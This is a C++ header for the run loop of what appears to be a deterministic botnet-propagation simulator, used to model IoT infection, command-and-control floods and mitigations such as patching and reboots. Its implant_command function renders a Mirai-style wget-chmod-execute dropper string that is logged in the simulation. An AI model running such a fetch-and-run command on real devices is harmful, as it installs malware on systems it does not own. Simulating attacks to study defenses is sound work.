// engine.hpp - deterministic discrete-event run loop.
//
// Determinism discipline: every stochastic decision draws from a substream
// keyed by (scenario seed, purpose, entity ids, per-key ordinal), never from
// a shared global stream. A bot's scan stream is keyed by its address and
// survives reboots, and login attempts between a (bot, victim, port) triple
// are keyed by how many connections that triple has made. Removing events
// from a run (what defenses do) therefore never changes the draws of the
// events that remain, which is what makes mitigation strictly monotone and
// replays bit-identical.
#pragma once

#include <algorithm>
#include <cmath>
#include <map>
#include <string>
#include <tuple>
#include <unordered_map>
#include <vector>

#include "botwave/botnet.hpp"
#include "botwave/cnc.hpp"
#include "botwave/defense.hpp"
#include "botwave/events.hpp"
#include "botwave/log.hpp"
#include "botwave/metrics.hpp"
#include "botwave/scenario.hpp"

namespace botwave::engine {

struct StageTransition {
    Ipv4Addr bot;
    botnet::BotStage from;
    botnet::BotStage to;
};

class Simulation {
public:
    explicit Simulation(Scenario scenario, EventLogger logger = {},
                        std::vector<StageTransition>* stage_trace = nullptr)
        : sc_(std::move(scenario)),
          log_(logger),
          stage_trace_(stage_trace),
          variant_(botnet::variant_spec(sc_.variant)),
          space_{sc_.address_bits} {
        validate_scenario(sc_);
        pop_ = population::generate_population(sc_.profiles, sc_.population, space_, sc_.seed,
                                               sc_.seed_bots);
        susceptible_ = uint32_t(pop_.devices().size());
        tick_interval_ = std::max(1.0, 1.0 / sc_.scan_rate_pps);

        for (size_t i = 0; i < sc_.defenses.size(); ++i)
            queue_.push(0, sc_.defenses[i].at_s, EventKind::Defense,
                        DefensePayload{DefensePayload::Subkind::ApplyPolicy, int32_t(i)});
        for (size_t i = 0; i < sc_.commands.size(); ++i)
            queue_.push(0, sc_.commands[i].at_s, EventKind::Command,
                        CommandPayload{uint32_t(i)});
        for (const auto& addr : sc_.seed_bots)
            seed_infect(addr);
    }

    const population::Population& population_state() const { return pop_; }
    const cnc::CommandCenter& command_center() const { return cnc_; }
    const std::vector<cnc::AttackRecord>& attacks() const { return attacks_; }

    Metrics run() {
        while (!queue_.empty()) {
            const Event& top = queue_.top();
            if (top.time_s > sc_.duration_s)
                break;
            flush_samples_before(top.time_s);
            Event e = queue_.pop();
            now_ = e.time_s;
            process(e);
            if (stop_requested_)
                break;
        }
        if (stop_requested_)
            flush_samples_through(now_);
        else
            flush_samples_through(sc_.duration_s);
        finish_summary();
        return metrics_;
    }

private:
    // --- bookkeeping -----------------------------------------------------

    struct SavedScanStream {
        PrngState prng;
        double budget = 0;
        uint64_t emitted = 0;
    };

    void set_stage(botnet::BotState& b, botnet::BotStage to) {
        if (b.stage == to)
            return;
        assert(botnet::stage_transition_allowed(b.stage, to));
        if (stage_trace_)
            stage_trace_->push_back({b.host_address, b.stage, to});
        b.stage = to;
    }

    // Walks legal edges until the bot sits in `target`.
    void walk_stage(botnet::BotState& b, botnet::BotStage target,
                    botnet::BotStage via = botnet::BotStage::Probing) {
        using S = botnet::BotStage;
        int guard = 0;
        while (b.stage != target && ++guard < 8) {
            switch (b.stage) {
                case S::Idle:
                case S::Attacking:
                    set_stage(b, S::Scanning);
                    break;
                case S::Scanning:
                    set_stage(b, S::Probing);
                    break;
                case S::Probing:
                    if (target == S::Scanning)
                        set_stage(b, S::Scanning);
                    else if (target == S::Reporting)
                        set_stage(b, via);
                    else
                        set_stage(b, target);
                    break;
                case S::BruteForcing:
                case S::Exploiting:
                    set_stage(b, target == S::Reporting ? S::Reporting : S::Scanning);
                    break;
                case S::Reporting:
                    set_stage(b, S::Scanning);
                    break;
            }
        }
    }

    void seed_infect(const Ipv4Addr& addr) {
        population::Device* d = pop_.device_at(addr);
        if (!d)
            throw ValidationError("seed bot address " + addr.str() + " has no device");
        install_bot(*d, botnet::InfectionEvidence{}, addr, 0.0);
    }

    PrngState pname_stream(const Ipv4Addr& victim) {
        uint32_t n = pname_counters_[victim.value()]++;
        return prng_substream(sc_.seed, "pname", victim.value(), n);
    }

    void install_bot(population::Device& d, const botnet::InfectionEvidence& evidence,
                     const Ipv4Addr& victim, double at) {
        PrngState name_rng = pname_stream(victim);
        auto outcome = botnet::infect(d, pop_.profile_of(d), variant_, evidence, name_rng);
        if (outcome.result != botnet::InfectOutcome::Result::Installed)
            throw ValidationError("seed bot " + victim.str() + " could not be infected");
        adopt_bot(std::move(*outcome.bot), victim, at);
        botnet::ReportMessage msg;
        msg.victim_ip = victim;
        cnc_.register_bot(msg, sc_.variant);
        --susceptible_;
        ++infected_;
        ++total_infections_;
        track_peak(at);
    }

    void adopt_bot(botnet::BotState bot, const Ipv4Addr& victim, double at) {
        auto saved = scan_streams_.find(victim.value());
        if (saved != scan_streams_.end()) {
            bot.scan_prng = saved->second.prng;
            bot.scan_budget = saved->second.budget;
            bot.probes_emitted = saved->second.emitted;
        } else {
            bot.scan_prng = prng_substream(sc_.seed, "scan", victim.value());
        }
        bots_.insert_or_assign(victim.value(), std::move(bot));
        queue_.push(at, at + tick_interval_, EventKind::ScanTick, ScanTickPayload{victim});
    }

    // Malware is gone from the device; keep the scan stream position so a
    // re-infection continues the same probe sequence instead of replaying it.
    void drop_bot(const Ipv4Addr& addr) {
        auto it = bots_.find(addr.value());
        if (it == bots_.end())
            return;
        scan_streams_[addr.value()] =
            SavedScanStream{it->second.scan_prng, it->second.scan_budget,
                            it->second.probes_emitted};
        bots_.erase(it);
        cnc_.remove(addr);
        cnc_.frontier_forget(addr);
    }

    void track_peak(double at) {
        if (infected_ > metrics_.summary.peak_infected) {
            metrics_.summary.peak_infected = infected_;
            metrics_.summary.time_to_peak_s = at;
        }
        if (infected_ == pop_.devices().size() &&
            !metrics_.summary.time_to_full_infection_s) {
            metrics_.summary.time_to_full_infection_s = at;
            if (sc_.stop_on_full_infection)
                stop_requested_ = true;
        }
    }

    void recount_population() {
        susceptible_ = infected_ = offline_ = rebooting_ = patched_any_ = 0;
        for (const auto& d : pop_.devices()) {
            switch (d.state) {
                case population::DeviceState::Susceptible: ++susceptible_; break;
                case population::DeviceState::Infected: ++infected_; break;
                case population::DeviceState::Offline: ++offline_; break;
                case population::DeviceState::Rebooting: ++rebooting_; break;
            }
            if (d.patched != 0)
                ++patched_any_;
        }
    }

    uint64_t attack_bps_at(double t) const {
        uint64_t total = 0;
        for (const auto& rec : attacks_)
            if (rec.start_s <= t && t < rec.end_s)
                total += rec.aggregate_bps;
        return total;
    }

    void emit_sample(double t) {
        metrics_.samples.push_back(Sample{t, susceptible_, infected_, patched_any_, offline_,
                                          rebooting_, probes_sent_, reports_,
                                          attack_bps_at(t)});
    }

    void flush_samples_before(double t) {
        while (true) {
            double s = next_sample_ * sc_.sample_interval_s;
            if (s >= t || s > sc_.duration_s)
                break;
            emit_sample(s);
            ++next_sample_;
        }
    }

    void flush_samples_through(double t) {
        while (true) {
            double s = next_sample_ * sc_.sample_interval_s;
            if (s > t || s > sc_.duration_s)
                break;
            emit_sample(s);
            ++next_sample_;
        }
    }

    void finish_summary() {
        auto& sum = metrics_.summary;
        sum.device_count = uint32_t(pop_.devices().size());
        sum.seed_bots = uint32_t(sc_.seed_bots.size());
        sum.final_infected = infected_;
        sum.final_susceptible = susceptible_;
        sum.final_offline = offline_;
        sum.final_patched = patched_any_;
        sum.total_probes = probes_sent_;
        sum.total_reports = reports_;
        sum.total_infections = total_infections_;
        sum.end_time_s = stop_requested_ ? now_ : sc_.duration_s;
        sum.stopped_early = stop_requested_;
    }

    // --- event handlers --------------------------------------------------

    void process(const Event& e) {
        switch (e.kind) {
            case EventKind::ScanTick: on_scan_tick(std::get<ScanTickPayload>(e.payload)); break;
            case EventKind::Probe: on_probe(std::get<ProbePayload>(e.payload)); break;
            case EventKind::ProbeReply:
                on_probe_reply(std::get<ProbeReplyPayload>(e.payload));
                break;
            case EventKind::BruteForce:
                on_brute_force(std::get<BruteForcePayload>(e.payload));
                break;
            case EventKind::Exploit: on_exploit(std::get<ExploitPayload>(e.payload)); break;
            case EventKind::Report: on_report(std::get<ReportPayload>(e.payload)); break;
            case EventKind::Command: on_command(std::get<CommandPayload>(e.payload)); break;
            case EventKind::Defense: on_defense(std::get<DefensePayload>(e.payload)); break;
            case EventKind::Reboot: on_reboot(std::get<RebootPayload>(e.payload)); break;
            case EventKind::AttackTick:
                on_attack_tick(std::get<AttackTickPayload>(e.payload));
                break;
        }
    }

    void on_scan_tick(const ScanTickPayload& p) {
        auto it = bots_.find(p.bot.value());
        if (it == bots_.end())
            return;
        botnet::BotState& b = it->second;
        population::Device* host = pop_.device_at(p.bot);
        if (!host || host->state != population::DeviceState::Infected)
            return;
        if (b.stage != botnet::BotStage::Attacking) {
            b.scan_budget += sc_.scan_rate_pps * tick_interval_;
            uint32_t n = uint32_t(b.scan_budget);
            b.scan_budget -= n;
            auto probes = botnet::bot_scan_step(b, sc_.effective_scan_ports(), space_, n);
            for (const auto& probe : probes)
                queue_.push(now_, now_, EventKind::Probe,
                            ProbePayload{p.bot, probe.target, probe.dest_port,
                                         probe.source_port});
        }
        queue_.push(now_, now_ + tick_interval_, EventKind::ScanTick, p);
    }

    void on_probe(const ProbePayload& p) {
        ++probes_sent_;
        population::Device* d = pop_.device_at(p.target);
        bool open = d && pop_.port_reachable(*d, p.dest_port);
        if (log_.full_enabled())
            log_.line(LogLevel::Full, now_, p.bot.str(), "scanning", "syn_probe",
                      p.target.str() + ":" + std::to_string(p.dest_port),
                      open ? "syn_ack" : "no_response");
        if (open)
            queue_.push(now_, now_ + 2 * sc_.latency_s, EventKind::ProbeReply,
                        ProbeReplyPayload{p.bot, p.target, p.dest_port});
    }

    void on_probe_reply(const ProbeReplyPayload& p) {
        auto it = bots_.find(p.bot.value());
        if (it == bots_.end())
            return;
        botnet::BotState& b = it->second;
        if (b.stage == botnet::BotStage::Attacking)
            return;  // flooding; connection dropped
        population::Device* d = pop_.device_at(p.target);
        if (!d || !pop_.port_reachable(*d, p.port))
            return;
        if (variant_.coordinated_scanning && !cnc_.frontier_add(p.target, p.port)) {
            if (log_.full_enabled())
                log_.line(LogLevel::Full, now_, p.bot.str(),
                          std::string(botnet::bot_stage_name(b.stage)), "scan_result",
                          p.target.str() + ":" + std::to_string(p.port),
                          "already_in_frontier");
            return;
        }

        // Exploit route first: a signature on this port that matches wins.
        for (const auto& id : variant_.exploit_cves) {
            const exploits::ExploitSignature* sig = exploits::signature_for(id);
            if (!sig || sig->target_port != p.port)
                continue;
            if (exploits::match_exploit(*sig, *d, pop_.profile_of(*d))) {
                walk_stage(b, botnet::BotStage::Probing);
                queue_.push(now_, now_, EventKind::Exploit,
                            ExploitPayload{p.bot, p.target, p.port,
                                           uint8_t(*population::cve_index(id))});
                return;
            }
        }
        bool brute_port =
            std::find(variant_.brute_ports.begin(), variant_.brute_ports.end(), p.port) !=
            variant_.brute_ports.end();
        if (brute_port && variant_.uses_credential_dictionary) {
            walk_stage(b, botnet::BotStage::Probing);
            queue_.push(now_, now_, EventKind::BruteForce,
                        BruteForcePayload{p.bot, p.target, p.port});
        }
    }

    uint32_t next_brute_ordinal(const Ipv4Addr& bot, const Ipv4Addr& victim, uint16_t port) {
        // Coordinated scanning centralizes attempts, so draws are keyed by the
        // victim alone; independent bots each have their own attempt history.
        uint32_t bot_key = variant_.coordinated_scanning ? 0 : bot.value();
        return brute_ordinals_[std::tuple(bot_key, victim.value(), port)]++;
    }

    void on_brute_force(const BruteForcePayload& p) {
        auto it = bots_.find(p.bot.value());
        if (it == bots_.end())
            return;
        botnet::BotState& b = it->second;
        if (b.stage == botnet::BotStage::Attacking)
            return;
        population::Device* d = pop_.device_at(p.victim);
        if (!d)
            return;
        uint32_t bot_key = variant_.coordinated_scanning ? 0 : p.bot.value();
        uint32_t ordinal = next_brute_ordinal(p.bot, p.victim, p.port);
        PrngState rng = prng_substream(sc_.seed, "brute", bot_key, p.victim.value(), p.port,
                                       ordinal);
        auto outcome =
            exploits::attempt_brute_force(*d, pop_.profile_of(*d), rng, p.port);
        std::string target = p.victim.str() + ":" + std::to_string(p.port);
        if (!outcome) {
            if (log_.full_enabled())
                log_.line(LogLevel::Full, now_, p.bot.str(), std::string(botnet::bot_stage_name(b.stage)),
                          "brute_force", target, "no_response");
            walk_stage(b, botnet::BotStage::Scanning);
            return;
        }
        if (outcome->success) {
            walk_stage(b, botnet::BotStage::BruteForcing);
            double done = now_ + outcome->attempts_used * sc_.brute_try_cost_s;
            if (log_.full_enabled())
                log_.line(LogLevel::Full, now_, p.bot.str(), "bruteforcing", "brute_force",
                          target,
                          "success tries=" + std::to_string(outcome->attempts_used) + " " +
                              outcome->credential.username + ":" +
                              outcome->credential.password);
            botnet::InfectionEvidence ev;
            ev.kind = botnet::InfectionEvidence::Kind::BruteForce;
            ev.credential = outcome->credential;
            queue_.push(now_, done + sc_.latency_s, EventKind::Report,
                        ReportPayload{p.bot, p.victim, p.port, std::move(ev)});
        } else {
            if (log_.full_enabled())
                log_.line(LogLevel::Full, now_, p.bot.str(), "bruteforcing", "brute_force",
                          target, "fail_after_10");
            walk_stage(b, botnet::BotStage::BruteForcing);
            walk_stage(b, botnet::BotStage::Scanning);
        }
    }

    void on_exploit(const ExploitPayload& p) {
        auto it = bots_.find(p.bot.value());
        if (it == bots_.end())
            return;
        botnet::BotState& b = it->second;
        if (b.stage == botnet::BotStage::Attacking)
            return;
        population::Device* d = pop_.device_at(p.victim);
        if (!d)
            return;
        const auto& rec = population::cve_catalog()[p.cve_index];
        const exploits::ExploitSignature* sig = exploits::signature_for(rec.id);
        std::string target = p.victim.str() + ":" + std::to_string(p.port);
        if (!sig || !exploits::match_exploit(*sig, *d, pop_.profile_of(*d))) {
            walk_stage(b, botnet::BotStage::Scanning);
            return;
        }
        double prob = sig->success_prob;
        if (auto ov = sc_.exploit_success_prob.find(rec.id);
            ov != sc_.exploit_success_prob.end())
            prob = ov->second;
        if (prob < 1.0) {
            uint32_t ordinal = exploit_ordinals_[std::tuple(p.victim.value(), p.cve_index)]++;
            PrngState roll = prng_substream(sc_.seed, "exploit-roll", p.victim.value(),
                                            p.cve_index, ordinal);
            if (prng_unit(roll) >= prob) {
                if (log_.full_enabled())
                    log_.line(LogLevel::Full, now_, p.bot.str(), "exploiting", "exploit",
                              target, rec.id + " failed");
                walk_stage(b, botnet::BotStage::Exploiting);
                walk_stage(b, botnet::BotStage::Scanning);
                return;
            }
        }
        walk_stage(b, botnet::BotStage::Exploiting);
        if (log_.full_enabled())
            log_.line(LogLevel::Full, now_, p.bot.str(), "exploiting", "exploit", target,
                      rec.id + " " +
                          exploits::render_exploit_request(*sig, implant_command()));
        botnet::InfectionEvidence ev;
        ev.kind = botnet::InfectionEvidence::Kind::Exploit;
        ev.cve_id = rec.id;
        queue_.push(now_, now_ + sc_.latency_s, EventKind::Report,
                    ReportPayload{p.bot, p.victim, p.port, std::move(ev)});
    }

    std::string implant_command() const {
        botnet::Endpoint dl = variant_.download_endpoint.value_or(sc_.loader_endpoint);
        std::string artifact = variant_.dropped_artifacts.empty()
                                   ? std::string(botnet::variant_name(sc_.variant))
                                   : variant_.dropped_artifacts.front();
        return "cd /tmp; wget http://" + dl.address.str() + "/" + artifact +
               "; chmod 777 " + artifact + "; ./" + artifact;
    }

    void on_report(const ReportPayload& p) {
        ++reports_;
        auto msg = botnet::report_to_cnc(variant_, p.victim, p.port, p.evidence,
                                         sc_.loader_endpoint);
        if (log_.full_enabled())
            log_.line(LogLevel::Full, now_, p.bot.str(), "reporting", "report",
                      msg.destination.str(), msg.rendered);

        population::Device* d = pop_.device_at(p.victim);
        if (d) {
            PrngState name_rng = pname_stream(p.victim);
            auto outcome =
                botnet::infect(*d, pop_.profile_of(*d), variant_, p.evidence, name_rng);
            switch (outcome.result) {
                case botnet::InfectOutcome::Result::Installed: {
                    cnc_.register_bot(msg, sc_.variant);
                    --susceptible_;
                    ++infected_;
                    ++total_infections_;
                    adopt_bot(std::move(*outcome.bot), p.victim, now_);
                    if (variant_.blocks_ports_after_infection) {
                        botnet::sonic_port_block(*d);
                        queue_.push(now_, now_ + 3600.0, EventKind::Defense,
                                    DefensePayload{DefensePayload::Subkind::SonicRerun, -1,
                                                   p.victim});
                    }
                    if (log_.summary_enabled())
                        log_.line(LogLevel::Summary, now_, p.bot.str(), "reporting", "infect",
                                  p.victim.str(),
                                  "installed process=" +
                                      bots_.at(p.victim.value()).displayed_process_name);
                    track_peak(now_);
                    break;
                }
                case botnet::InfectOutcome::Result::AlreadyPresent:
                    cnc_.register_bot(msg, sc_.variant);
                    if (!outcome.console_log.empty() && log_.summary_enabled())
                        log_.line(LogLevel::Summary, now_, p.victim.str(), "scanning",
                                  "console", p.victim.str(), outcome.console_log);
                    break;
                case botnet::InfectOutcome::Result::Unreachable:
                case botnet::InfectOutcome::Result::ArchitectureMismatch:
                    if (log_.full_enabled())
                        log_.line(LogLevel::Full, now_, p.bot.str(), "reporting", "infect",
                                  p.victim.str(),
                                  outcome.result ==
                                          botnet::InfectOutcome::Result::Unreachable
                                      ? "unreachable"
                                      : "architecture_mismatch");
                    break;
            }
        }
        auto it = bots_.find(p.bot.value());
        if (it != bots_.end() && it->second.stage != botnet::BotStage::Attacking) {
            walk_stage(it->second, botnet::BotStage::Reporting,
                       p.evidence.kind == botnet::InfectionEvidence::Kind::Exploit
                           ? botnet::BotStage::Exploiting
                           : botnet::BotStage::BruteForcing);
            walk_stage(it->second, botnet::BotStage::Scanning);
        }
    }

    void on_command(const CommandPayload& p) {
        const cnc::CncCommand& cmd = sc_.commands[p.command_index];
        const cnc::CommandVerbInfo* info = cnc::find_verb(cmd.verb);
        if (info->is_flood && cnc_.size() == 0) {
            if (log_.summary_enabled())
                log_.line(LogLevel::Summary, now_, "cnc", "idle", "command", cmd.verb,
                          "skipped_no_bots");
            return;
        }
        auto outcome = cnc_.dispatch_command(cmd, now_, sc_.per_bot_rate_mbps);
        if (log_.summary_enabled())
            log_.line(LogLevel::Summary, now_, "cnc", "idle", "command",
                      cmd.verb + (cmd.target.empty() ? "" : " " + cmd.target),
                      "dispatched bots=" + std::to_string(outcome.tasks.size()));
        if (outcome.attack) {
            uint32_t idx = uint32_t(attacks_.size());
            attacks_.push_back(std::move(*outcome.attack));
            queue_.push(now_, attacks_[idx].end_s, EventKind::AttackTick,
                        AttackTickPayload{idx});
            for (const auto& task : outcome.tasks) {
                auto it = bots_.find(task.bot.value());
                if (it != bots_.end())
                    set_stage(it->second, botnet::BotStage::Attacking);
            }
            return;
        }
        if (cmd.verb == "scanner") {
            for (auto& rec : attacks_)
                if (rec.end_s > now_)
                    rec.end_s = now_;
            for (const auto& task : outcome.tasks) {
                auto it = bots_.find(task.bot.value());
                if (it != bots_.end() &&
                    (it->second.stage == botnet::BotStage::Attacking ||
                     it->second.stage == botnet::BotStage::Idle))
                    set_stage(it->second, botnet::BotStage::Scanning);
            }
        } else if (cmd.verb == "killer") {
            auto ports = cnc::killer_service_ports(cmd.target);
            for (const auto& task : outcome.tasks) {
                population::Device* d = pop_.device_at(task.bot);
                auto it = bots_.find(task.bot.value());
                if (!d || it == bots_.end())
                    continue;
                for (uint16_t port : ports)
                    if (std::find(d->killed_ports.begin(), d->killed_ports.end(), port) ==
                        d->killed_ports.end())
                        d->killed_ports.push_back(port);
                it->second.killed_services.push_back(cmd.target);
            }
        } else if (cmd.verb == "killallbots") {
            for (const auto& task : outcome.tasks) {
                population::Device* d = pop_.device_at(task.bot);
                auto it = bots_.find(task.bot.value());
                if (it != bots_.end()) {
                    scan_streams_[task.bot.value()] =
                        SavedScanStream{it->second.scan_prng, it->second.scan_budget,
                                        it->second.probes_emitted};
                    bots_.erase(it);
                }
                if (d && d->state == population::DeviceState::Infected) {
                    d->state = population::DeviceState::Susceptible;
                    d->bound_ports.clear();
                    --infected_;
                    ++susceptible_;
                }
            }
        }
    }

    void on_defense(const DefensePayload& p) {
        switch (p.subkind) {
            case DefensePayload::Subkind::ApplyPolicy: {
                const auto& policy = sc_.defenses[p.policy_index];
                auto app = defense::apply_policy(pop_, policy, now_, sc_.seed,
                                                 uint64_t(p.policy_index));
                if (log_.summary_enabled())
                    log_.line(LogLevel::Summary, now_, "defense", "idle",
                              std::string(defense::defense_kind_name(policy.kind)), "population",
                              "changed=" + std::to_string(app.changed));
                for (const auto& patch : app.patches)
                    queue_.push(now_, patch.at_s, EventKind::Defense,
                                DefensePayload{DefensePayload::Subkind::DelayedPatch, -1,
                                               patch.device,
                                               int32_t(*population::cve_index(patch.cve))});
                if (app.reboots)
                    for (const auto& dev : app.reboots->devices)
                        queue_.push(now_, app.reboots->first_at_s, EventKind::Reboot,
                                    RebootPayload{dev, app.reboots->period_s, false});
                if (policy.kind == defense::DefenseKind::TakeOffline)
                    for (const auto& d : pop_.devices())
                        if (d.state == population::DeviceState::Offline)
                            drop_bot(d.address);
                recount_population();
                break;
            }
            case DefensePayload::Subkind::DelayedPatch: {
                population::Device* d = pop_.device_at(p.device);
                if (!d)
                    return;
                population::CveMask bit = population::CveMask(1) << p.cve_index;
                if ((d->patched & bit) == 0) {
                    bool first = d->patched == 0;
                    d->patched |= bit;
                    if (first)
                        ++patched_any_;
                }
                break;
            }
            case DefensePayload::Subkind::SonicRerun: {
                population::Device* d = pop_.device_at(p.device);
                if (!d || d->state != population::DeviceState::Infected ||
                    bots_.find(p.device.value()) == bots_.end())
                    return;
                // Hourly refresh of the packet filters; the cron entry is
                // broken, so every re-run is a recorded failure.
                if (log_.summary_enabled())
                    log_.line(LogLevel::Summary, now_, p.device.str(), "idle",
                              "lolol_rerun", p.device.str(),
                              "failed_cron_misconfigured");
                queue_.push(now_, now_ + 3600.0, EventKind::Defense, p);
                break;
            }
        }
    }

    void on_reboot(const RebootPayload& p) {
        population::Device* d = pop_.device_at(p.device);
        if (!d)
            return;
        if (p.finish) {
            if (d->state == population::DeviceState::Rebooting) {
                d->state = population::DeviceState::Susceptible;
                --rebooting_;
                ++susceptible_;
            }
            return;
        }
        if (d->state != population::DeviceState::Offline) {
            bool was_infected = d->state == population::DeviceState::Infected;
            drop_bot(p.device);
            defense::reboot_device(*d);
            if (was_infected) {
                --infected_;
                ++susceptible_;
            }
            if (log_.summary_enabled())
                log_.line(LogLevel::Summary, now_, p.device.str(), "idle", "reboot",
                          p.device.str(), was_infected ? "cleaned" : "clean");
            if (sc_.reboot_duration_s > 0) {
                d->state = population::DeviceState::Rebooting;
                --susceptible_;
                ++rebooting_;
                queue_.push(now_, now_ + sc_.reboot_duration_s, EventKind::Reboot,
                            RebootPayload{p.device, 0, true});
            }
        }
        if (p.period_s > 0)
            queue_.push(now_, now_ + p.period_s, EventKind::Reboot,
                        RebootPayload{p.device, p.period_s, false});
    }

    void on_attack_tick(const AttackTickPayload& p) {
        const auto& rec = attacks_[p.attack_index];
        if (rec.end_s > now_)
            return;  // extended or superseded
        for (const auto& addr : rec.bots) {
            auto it = bots_.find(addr.value());
            if (it == bots_.end() || it->second.stage != botnet::BotStage::Attacking)
                continue;
            bool still_attacking = false;
            for (const auto& other : attacks_)
                if (&other != &rec && other.start_s <= now_ && now_ < other.end_s)
                    for (const auto& b : other.bots)
                        if (b == addr)
                            still_attacking = true;
            if (!still_attacking)
                set_stage(it->second, botnet::BotStage::Scanning);
        }
    }

    // --- state -----------------------------------------------------------

    Scenario sc_;
    EventLogger log_;
    std::vector<StageTransition>* stage_trace_ = nullptr;
    const botnet::VariantSpec& variant_;
    addrspace::AddressSpace space_;
    population::Population pop_;
    cnc::CommandCenter cnc_;
    EventQueue queue_;
    Metrics metrics_;
    std::vector<cnc::AttackRecord> attacks_;
    std::unordered_map<uint32_t, botnet::BotState> bots_;
    std::unordered_map<uint32_t, SavedScanStream> scan_streams_;
    std::unordered_map<uint32_t, uint32_t> pname_counters_;
    std::map<std::tuple<uint32_t, uint32_t, uint16_t>, uint32_t> brute_ordinals_;
    std::map<std::tuple<uint32_t, uint8_t>, uint32_t> exploit_ordinals_;

    double now_ = 0;
    double tick_interval_ = 1.0;
    uint64_t probes_sent_ = 0;
    uint64_t reports_ = 0;
    uint64_t total_infections_ = 0;
    uint32_t susceptible_ = 0;
    uint32_t infected_ = 0;
    uint32_t offline_ = 0;
    uint32_t rebooting_ = 0;
    uint32_t patched_any_ = 0;
    uint32_t next_sample_ = 0;
    bool stop_requested_ = false;
};

inline Metrics run(Scenario scenario, EventLogger logger = {},
                   std::vector<StageTransition>* stage_trace = nullptr) {
    Simulation sim(std::move(scenario), logger, stage_trace);
    return sim.run();
}

}  // namespace botwave::engine
